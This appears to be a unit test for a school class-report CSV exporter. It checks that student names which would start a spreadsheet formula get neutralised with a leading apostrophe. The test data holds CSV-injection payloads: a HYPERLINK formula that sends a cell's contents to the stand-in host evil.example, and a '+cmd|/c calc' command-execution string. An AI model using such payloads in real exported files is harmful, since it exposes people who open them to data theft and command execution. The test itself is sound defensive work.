import { describe, expect, it } from 'vitest';
import { csv } from '../../../../main/core/class/report.js';

describe('class report CSV', () => {
  it('writes a student or file name that would start a formula as plain text', () => {
    const text = csv([
      ['student', 'score'],
      ['=HYPERLINK("http://evil.example/?x="&A1,"Ana")', 7],
      ['+cmd|/c calc', 3],
      ['-2+3', 1],
      ['@SUM(A1:A2)', 0],
      ['\tTab', 0],
      ['Ana Souza', -1],
    ]);
    const lines = text.replace('\uFEFF', '').trimEnd().split('\r\n');
    expect(lines.slice(1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Ana"")",7`,
      "'+cmd|/c calc,3",
      "'-2+3,1",
      "'@SUM(A1:A2),0",
      "'\tTab,0",
      // A number (a negative score) stays a number; a plain name is untouched.
      'Ana Souza,-1',
    ]);
  });
});
